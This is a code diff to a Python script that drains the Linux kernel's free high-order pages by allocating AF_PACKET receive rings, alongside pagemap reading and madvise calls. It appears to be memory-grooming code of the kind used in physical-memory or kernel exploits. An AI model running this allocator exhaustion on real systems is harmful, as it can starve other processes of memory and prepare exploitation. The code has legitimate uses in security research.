@@ -12,6 +12,7 @@ import mmap
 import socket
 import struct
 import sys
+from collections import Counter
 
 PAGE = mmap.PAGESIZE
 MADV_DONTNEED_LOCKED = 24
@@ -20,7 +21,7 @@ STEP = 4 << 20
 RESERVE = 24 << 10
 PFN_MASK = (1 << 55) - 1
 SOL_PACKET, PACKET_RX_RING = 263, 5
-TRIES = 100
+TRIES = 3
 
 libc = ctypes.CDLL(None, use_errno=True)
 libc.madvise.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
@@ -71,19 +72,21 @@ def punch(base, order, pagemap):
 
 
 def eat(order):
-    """Takes all free pieces that are larger: (sockets that hold them)."""
-    held = []
-    for _ in range(TRIES):
-        large = [(o, count) for o, count in enumerate(pieces()) if o > order and count]
-        if not large:
+    """Takes the free pieces that are larger, the largest first, and returns the sockets that hold them.
+    What the kernel reserves, nobody else gets either."""
+    held, in_vain = [], Counter()
+    while True:
+        before = pieces()
+        o = max((o for o in range(order + 1, len(before)) if before[o] and in_vain[o] < TRIES),
+                default=None)
+        if o is None:
             return held
-        o, count = large[-1]
         sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
         # Block size and count, frame size and count.
         sock.setsockopt(SOL_PACKET, PACKET_RX_RING,
-                        struct.pack("=IIII", PAGE << o, count, PAGE << o, count))
+                        struct.pack("=IIII", PAGE << o, before[o], PAGE << o, before[o]))
         held.append(sock)
-    sys.exit(f"there are still large pieces: {pieces()}")
+        in_vain[o] += pieces()[o] >= before[o]
 
 
 def main():
